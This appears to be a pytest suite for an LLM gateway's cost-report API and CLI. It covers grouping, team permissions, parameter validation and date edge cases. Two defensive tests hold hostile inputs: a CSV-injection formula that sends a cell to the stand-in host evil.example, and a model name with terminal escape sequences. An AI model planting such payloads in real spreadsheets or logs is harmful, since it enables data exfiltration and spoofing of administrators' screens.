"""Cost reports over HTTP and in the CLI, on a seeded ledger with hand-computed figures."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path

import httpx
import pytest
from typer.testing import CliRunner

from gateway.cli import app as cli
from gateway.report_render import printable
from tests.conftest import MASTER_KEY
from tests.ledger.test_reports import by_rule, seeded

SINCE = "2026-10-01"


def config(db_path: Path) -> str:
    return f"""
master_key: os.environ/DRAFTGATE_TEST_MASTER
database_url: "sqlite:///{db_path}"
teams:
  - name: research
  - name: ops
keys:
  - name: research-key
    key: sk-research-123456
    team: research
  - name: loner
    key: sk-loner-1234567
local:
  enabled: false
"""


@pytest.fixture
def seeded_gateway(gateway_factory, tmp_path: Path):
    gw = gateway_factory(config(tmp_path / "ledger.db"))
    gw.services.db.insert_records(seeded())
    return gw


def get(gw, key: str, **params: str) -> httpx.Response:
    return httpx.get(f"{gw.url}/v1/reports/costs", params=params, headers={"authorization": f"Bearer {key}"})


def test_master_sees_every_team_with_savings(seeded_gateway) -> None:
    body = get(seeded_gateway, MASTER_KEY, group_by="team", since=SINCE).json()
    rows = {r["group"]: r for r in body["rows"]}
    assert set(rows) == {"research", "ops"}
    assert rows["research"]["savings_usd"] == pytest.approx(0.0017)
    assert rows["research"]["wasted_draft_usd"] == pytest.approx(0.0002)
    assert rows["ops"]["unpriced_requests"] == 1
    assert body["total"]["requests"] == 6 and body["total"]["cost_usd"] == pytest.approx(0.0046)


def test_a_team_key_sees_only_its_team(seeded_gateway) -> None:
    body = get(seeded_gateway, "sk-research-123456", group_by="model", since=SINCE).json()
    assert body["team"] == "research" and body["total"]["requests"] == 4
    denied = get(seeded_gateway, "sk-research-123456", group_by="team", since=SINCE, team="ops")
    assert denied.status_code == 403 and denied.json()["error"]["type"] == "permission_error"
    assert get(seeded_gateway, "sk-loner-1234567", since=SINCE).status_code == 403
    assert get(seeded_gateway, "sk-wrong-key-0000").status_code == 401


def test_reports_group_by_the_model_that_answered(seeded_gateway, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """`model` is the alias asked for; `provider_model` the model that answered it, in the API and the CLI."""
    from gateway.cli import GroupBy
    from ledger.reports import GROUP_BY_VALUES

    assert tuple(g.value for g in GroupBy) == GROUP_BY_VALUES  # the CLI offers every grouping the API has
    schema = httpx.get(f"{seeded_gateway.url}/openapi.json").json()["paths"]["/v1/reports/costs"]["get"]
    assert "provider_model" in next(p for p in schema["parameters"] if p["name"] == "group_by")["description"]
    body = get(seeded_gateway, MASTER_KEY, group_by="provider_model", since=SINCE).json()
    rows = {r["group"]: r for r in body["rows"]}
    assert body["group_by"] == "provider_model" and set(rows) == {"openai/gpt-4o-mini", ""}
    assert rows["openai/gpt-4o-mini"]["requests"] == 5 and rows[""]["label"] == "(none)"
    cfg = tmp_path / "draftgate.yaml"
    cfg.write_text(config(tmp_path / "ledger.db"))
    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
    out = CliRunner().invoke(cli, ["report", "--by", "provider_model", "--since", SINCE, "--format", "json",
                                   "-c", str(cfg)])
    assert out.exit_code == 0, out.output
    assert {r["group"]: r["requests"] for r in json.loads(out.output)["rows"]} == {"openai/gpt-4o-mini": 5, "": 1}


def test_reports_group_by_rule_with_hand_computed_figures(gateway_factory, tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """What each routing rule costs, in the API (a team key sees only its team's) and in the CLI's three formats;
    requests no rule routed are the `(default)` row."""
    gw = gateway_factory(config(tmp_path / "ledger.db"))
    gw.services.db.insert_records(by_rule())
    body = get(gw, MASTER_KEY, group_by="rule", since=SINCE).json()
    rows = {r["group"]: r for r in body["rows"]}
    assert body["group_by"] == "rule" and list(rows) == ["routine-cascade", "tools-go-hosted", ""]
    cascade = rows["routine-cascade"]
    assert (cascade["requests"], cascade["local_share"], cascade["escalation_rate"]) == (4, 0.5, 0.5)
    assert cascade["cost_usd"] == pytest.approx(0.0066) and cascade["savings_usd"] == pytest.approx(0.0034)
    assert rows[""]["label"] == "(default)" and rows[""]["requests"] == 2 and rows[""]["errors"] == 1
    research = {r["group"]: r for r in get(gw, "sk-research-123456", group_by="rule", since=SINCE).json()["rows"]}
    assert {g: r["requests"] for g, r in research.items()} == {"routine-cascade": 4, "tools-go-hosted": 1, "": 2}
    assert research["tools-go-hosted"]["cost_usd"] == pytest.approx(0.002)  # ops' $0.003 is not its team's
    cfg = tmp_path / "draftgate.yaml"
    cfg.write_text(config(tmp_path / "ledger.db"))
    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
    monkeypatch.setenv("COLUMNS", "250")

    def report(*args: str) -> str:
        out = CliRunner().invoke(cli, ["report", "--by", "rule", "--since", SINCE, *args, "-c", str(cfg)])
        assert out.exit_code == 0, out.output
        return out.output

    as_json = {r["label"]: r for r in json.loads(report("--format", "json"))["rows"]}
    assert as_json["routine-cascade"]["savings_usd"] == pytest.approx(0.0034) and as_json["(default)"]["group"] == ""
    as_csv = list(csv.DictReader(io.StringIO(report("--format", "csv"))))
    assert [(r["group"], r["label"], r["requests"]) for r in as_csv] == [
        ("routine-cascade", "routine-cascade", "4"), ("tools-go-hosted", "tools-go-hosted", "2"),
        ("", "(default)", "2"), ("total", "total", "8")]
    table = report("--team", "ops")
    assert "draftgate costs by rule" in table and "tools-go-hosted" in table and "0.0030" in table
    assert "routine-cascade" not in table and "(default)" not in table
    assert "(default)" in report() and "0.0066" in report()
    unknown = CliRunner().invoke(cli, ["report", "--by", "rules", "-c", str(cfg)])
    assert unknown.exit_code == 2 and "'reason', 'rule'" in unknown.output, unknown.output


def test_reports_by_rule_name_the_rules_that_routed_real_requests(gateway_factory, simulator) -> None:
    """Through the gateway: a request a rule matched is counted under that rule, one no rule matched under
    `(default)`; a team key's report holds only its team's requests."""
    from openai import OpenAI

    from tests.conftest import hosted_config

    gw = gateway_factory(hosted_config(simulator.base_url, """teams: [{name: research}, {name: ops}]
keys:
  - {name: research-key, key: sk-research-123456, team: research}
  - {name: ops-key, key: sk-opskey-1234567, team: ops}
policies:
  rules:
    - name: bots-go-to-backup
      when: {metadata: {app: bot}}
      action: {hosted: backup}
"""))
    ask = [{"role": "user", "content": "hi"}]
    for key, metadata in (("sk-research-123456", {"app": "bot"}), ("sk-research-123456", None),
                          ("sk-opskey-1234567", {"app": "bot"})):
        client = OpenAI(base_url=gw.base_url, api_key=key, max_retries=0)
        reply = client.chat.completions.with_raw_response.create(model="gpt-4o-mini", messages=ask,
                                                                 **({"metadata": metadata} if metadata else {}))
        assert reply.http_response.status_code == 200
    asyncio.run_coroutine_threadsafe(gw.services.writer.flush(), gw.services.loop).result(10)
    rows = {r["label"]: r for r in get(gw, MASTER_KEY, group_by="rule").json()["rows"]}
    assert {label: r["requests"] for label, r in rows.items()} == {"bots-go-to-backup": 2, "(default)": 1}
    assert rows["bots-go-to-backup"]["hosted_requests"] == 2 and rows["bots-go-to-backup"]["cost_usd"] > 0
    mine = get(gw, "sk-research-123456", group_by="rule").json()
    assert {r["label"]: r["requests"] for r in mine["rows"]} == {"bots-go-to-backup": 1, "(default)": 1}


def test_reports_by_user_count_each_end_user_a_request_named(gateway_factory, simulator) -> None:
    """The OpenAI SDK's `user=` (the app's own end user) was accepted and forgotten: no report could say what each
    end user cost. Each row records it now; `group_by=user` groups by it, streamed requests too."""
    from openai import OpenAI

    from tests.conftest import hosted_config

    gw = gateway_factory(hosted_config(simulator.base_url, """teams: [{name: research}]
keys:
  - {name: research-key, key: sk-research-123456, team: research}
"""))
    ask = [{"role": "user", "content": "hi"}]
    client = OpenAI(base_url=gw.base_url, api_key="sk-research-123456", max_retries=0)
    for user in ("alice", "alice", "bob", None):
        client.chat.completions.create(model="gpt-4o-mini", messages=ask, **({"user": user} if user else {}))
    for _ in client.chat.completions.create(model="gpt-4o-mini", messages=ask, user="bob", stream=True):
        pass
    asyncio.run_coroutine_threadsafe(gw.services.writer.flush(), gw.services.loop).result(10)
    body = get(gw, MASTER_KEY, group_by="user").json()
    rows = {r["label"]: r for r in body["rows"]}
    assert {label: r["requests"] for label, r in rows.items()} == {"alice": 2, "bob": 2, "(none)": 1}
    assert all(r["cost_usd"] > 0 for r in rows.values())
    assert sum(r["cost_usd"] for r in rows.values()) == pytest.approx(body["total"]["cost_usd"])
    users = {r.end_user for r in gw.services.db.iter_records()}
    assert users == {"alice", "bob", None}


def test_bad_parameters_are_clear_400s(seeded_gateway) -> None:
    bad_group = get(seeded_gateway, MASTER_KEY, group_by="planet")
    assert bad_group.status_code == 400 and bad_group.json()["error"]["param"] == "group_by"
    assert bad_group.json()["error"]["message"] == \
        "group_by must be one of team, key, model, provider_model, route, day, reason, rule, user"
    bad_since = get(seeded_gateway, MASTER_KEY, since="last tuesday")
    assert bad_since.status_code == 400 and bad_since.json()["error"]["param"] == "since"
    backwards = get(seeded_gateway, MASTER_KEY, since="2026-11-02", until="2026-11-01")
    assert backwards.status_code == 400
    # a parameter it does not take (LiteLLM's start_date, a typo) was ignored: the default 30 days came back
    for name in ("start_date", "Since", "group-by"):
        unknown = get(seeded_gateway, MASTER_KEY, since=SINCE, **{name: "2026-11-02"})
        assert unknown.status_code == 400 and unknown.json()["error"]["param"] == name, unknown.text
    # `until` alone is the 30 days before it, as `draftgate report --until` reads it (it was a 400)
    alone = get(seeded_gateway, MASTER_KEY, until="2026-11-05")
    assert alone.status_code == 200, alone.text
    assert alone.json()["since"].startswith("2026-10-06") and alone.json()["total"]["requests"] == 6


def test_a_utc_offset_typed_into_the_url_unencoded_is_read_as_sent(seeded_gateway) -> None:
    """`?since=2026-11-01T13:00:00+01:00` typed as is (curl, a browser): the `+` arrives as a space, and the report
    was a 400 "neither a date/time" for a valid ISO moment."""
    base = f"{seeded_gateway.url}/v1/reports/costs?group_by=team&"
    auth = {"authorization": f"Bearer {MASTER_KEY}"}
    for window in ("since=2026-11-01T12:59:59+01:00&until=2026-11-01T14:00+01:00",  # 11:59:59-13:00 UTC: day one's
                   "since=2026-11-01T12:59:59.5+0100&until=2026-11-01T14:00:00+01"):
        reply = httpx.get(base + window, headers=auth)
        assert reply.status_code == 200, reply.text
        assert reply.json()["since"].startswith("2026-11-01T11:59:59") and reply.json()["total"]["requests"] == 4
    encoded = get(seeded_gateway, MASTER_KEY, since="2026-11-01T12:59:59+01:00", until="2026-11-01T14:00+01:00")
    assert encoded.json()["total"]["requests"] == 4
    assert httpx.get(base + "since=2026-11-01 13:00", headers=auth).status_code == 200  # a space as the T: as before
    assert httpx.get(base + "since=2026-11-01T13:00 1", headers=auth).status_code == 400


def test_cli_report_by_team_in_three_formats(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from ledger import Database

    db_path = tmp_path / "ledger.db"
    db = Database(f"sqlite:///{db_path}")
    db.migrate()
    db.insert_records(seeded())
    db.dispose()
    cfg = tmp_path / "draftgate.yaml"
    cfg.write_text(config(db_path))
    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
    monkeypatch.setenv("COLUMNS", "250")
    runner = CliRunner()
    as_json = runner.invoke(cli, ["report", "--by", "team", "--since", SINCE, "--format", "json", "-c", str(cfg)])
    assert as_json.exit_code == 0, as_json.output
    rows = {r["group"]: r for r in json.loads(as_json.output)["rows"]}
    assert rows["research"]["savings_usd"] == pytest.approx(0.0017)
    as_csv = runner.invoke(cli, ["report", "--by", "team", "--since", SINCE, "--format", "csv", "-c", str(cfg)])
    lines = as_csv.output.strip().splitlines()
    assert lines[0].startswith("group,label,requests") and len(lines) == 4  # header, 2 teams, total
    table = runner.invoke(cli, ["report", "--by", "team", "--since", SINCE, "-c", str(cfg)])
    assert table.exit_code == 0
    assert "research" in table.output and "0.0017" in table.output and "0.0054" in table.output
    bad = runner.invoke(cli, ["report", "--since", "yesterday-ish", "-c", str(cfg)])
    assert bad.exit_code == 2 and "span like 30d" in bad.output


def _record_model_as_sent(gateway, model: str, tmp_path: Path,  # type: ignore[no-untyped-def]
                          monkeypatch: pytest.MonkeyPatch) -> Path:
    """Sends a request naming `model` (no alias has it: a 404, recorded as sent), flushes the ledger, and returns a
    config file for the CLI that reads that ledger."""
    sent = httpx.post(f"{gateway.url}/v1/chat/completions", headers={"authorization": "Bearer sk-research-123456"},
                      json={"model": model, "messages": [{"role": "user", "content": "hi"}]})
    assert sent.status_code == 404
    asyncio.run_coroutine_threadsafe(gateway.services.writer.flush(), gateway.services.loop).result(10)
    cfg = tmp_path / "draftgate.yaml"
    cfg.write_text(config(tmp_path / "ledger.db"))
    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
    return cfg


def test_csv_cells_a_client_wrote_are_not_spreadsheet_formulas(seeded_gateway, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """Any key may send a `model` no alias has: it is recorded as sent, and `report --by model --format csv` wrote
    it as is, so a spreadsheet opening the file ran `=HYPERLINK(...)` as a formula (CSV injection)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    cfg = _record_model_as_sent(seeded_gateway, formula, tmp_path, monkeypatch)
    out = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "csv", "-c", str(cfg)])
    assert out.exit_code == 0, out.output
    labels = [row["label"] for row in csv.DictReader(io.StringIO(out.output))]
    assert "'" + formula in labels and formula not in labels, labels
    assert not any(label[:1] in "=+-@\t\r" for label in labels)
    as_json = CliRunner().invoke(cli, ["report", "--by", "model", "--format", "json", "-c", str(cfg)])
    assert formula in {r["label"] for r in json.loads(as_json.output)["rows"]}  # JSON keeps what was sent


def test_the_report_table_shows_control_characters_a_client_sent_instead_of_sending_them_to_the_terminal(
        seeded_gateway, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A `model` no alias has is recorded as sent: with escape sequences in it, `draftgate report --by model` wrote
    them to the admin's terminal (clear the screen, retitle the window, hide a row, fake a link)."""
    hostile = "gpt\x1b[2J\x1b]0;owned\x07\u202e-mini"
    cfg = _record_model_as_sent(seeded_gateway, hostile, tmp_path, monkeypatch)
    out = CliRunner().invoke(cli, ["report", "--by", "model", "-c", str(cfg)])
    assert out.exit_code == 0, out.output
    assert not any(c in out.output for c in "\x1b\x07\u202e"), repr(out.output)
    assert "gpt\\x1b[2J\\x1b]0;owned" in out.output, out.output  # shown as escapes (the cell may be cut)
    assert printable(hostile) == "gpt\\x1b[2J\\x1b]0;owned\\x07\\u202e-mini" and printable("Zürich €") == "Zürich €"


def test_the_report_table_shows_a_long_group_name_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Tables in a pipe are 220 columns wide "so no cell is cut", but a long alias (a `model` may have 256
    characters, a team 128) was cut to "…": two long names with one prefix read as the same row."""
    from ledger import Database
    from tests.ledger.conftest import record

    long_names = ["team-" + "x" * 100 + suffix for suffix in ("-alpha", "-beta")]
    db = Database(f"sqlite:///{tmp_path / 'ledger.db'}")
    db.migrate()
    db.insert_records([record(f"r{i}", team=name) for i, name in enumerate(long_names)])
    db.dispose()
    cfg = tmp_path / "draftgate.yaml"
    cfg.write_text(config(tmp_path / "ledger.db"))
    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
    out = CliRunner().invoke(cli, ["report", "--since", SINCE, "-c", str(cfg)])
    assert out.exit_code == 0, out.output
    first_cells = "".join(line.split("│")[1].strip() for line in out.output.splitlines() if line.startswith("│"))
    assert all(name in first_cells for name in long_names), out.output


def test_dates_at_the_ends_of_the_calendar_are_a_400_not_a_500(seeded_gateway, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A window is widened to whole days, and a lone `until` reaches back 30 days: near year 1 or 9999 that
    overflowed (a 500 from the API, a traceback from the CLI)."""
    for params in ({"since": "9999-12-31T12:00:00"}, {"since": "9999-12-31T12:00", "until": "9999-12-31T13:00"},
                   {"until": "0001-01-05"}):
        reply = get(seeded_gateway, MASTER_KEY, **params)
        assert reply.status_code == 400, (params, reply.text)
        assert "outside the dates" in reply.json()["error"]["message"]
    assert get(seeded_gateway, MASTER_KEY, since="0002-01-01", until="9999-01-01").json()["total"]["requests"] == 6
    cfg = tmp_path / "draftgate.yaml"
    cfg.write_text(config(tmp_path / "ledger.db"))
    monkeypatch.setenv("DRAFTGATE_TEST_MASTER", MASTER_KEY)
    for args in (["--until", "0001-01-05"], ["--since", "9999-12-31T12:00"]):
        out = CliRunner().invoke(cli, ["report", *args, "-c", str(cfg)])
        assert out.exit_code == 2 and "outside the dates" in out.output, out.output


def test_a_key_cannot_be_given_the_empty_team_that_stands_for_no_team(gateway_factory, tmp_path: Path) -> None:
    """Requests without a team are kept under team '' in the roll-up: a key of team '' (which POST /admin/keys
    took when the config declares no teams) read their figures in /v1/reports/costs and /dashboard."""
    gw = gateway_factory(f'master_key: os.environ/DRAFTGATE_TEST_MASTER\ndatabase_url: "sqlite:///{tmp_path / "l.db"}"'
                         "\nlocal:\n  enabled: false\n")
    gw.services.db.insert_records([r for r in seeded() if r.team == "research"] +
                                  [r.__class__(**{**r.__dict__, "team": None}) for r in seeded() if r.team == "ops"])
    assert get(gw, MASTER_KEY, since=SINCE, group_by="team").json()["total"]["requests"] == 6
    created = httpx.post(f"{gw.url}/admin/keys", json={"name": "sneaky", "team": ""},
                         headers={"authorization": f"Bearer {MASTER_KEY}"})
    assert created.status_code == 400 and created.json()["error"]["param"] == "team", created.text
    assert [k["name"] for k in httpx.get(f"{gw.url}/admin/keys",
                                         headers={"authorization": f"Bearer {MASTER_KEY}"}).json()] == []
    # one stored with team '' before is a key without a team: refused by reports and the dashboard
    raw, _ = gw.services.keys.create("old", "")
    assert get(gw, raw, since=SINCE).status_code == 403
    dashboard = httpx.post(f"{gw.url}/dashboard/login", data={"key": raw})
    assert dashboard.status_code == 401 and "draftgate_key" not in dashboard.cookies
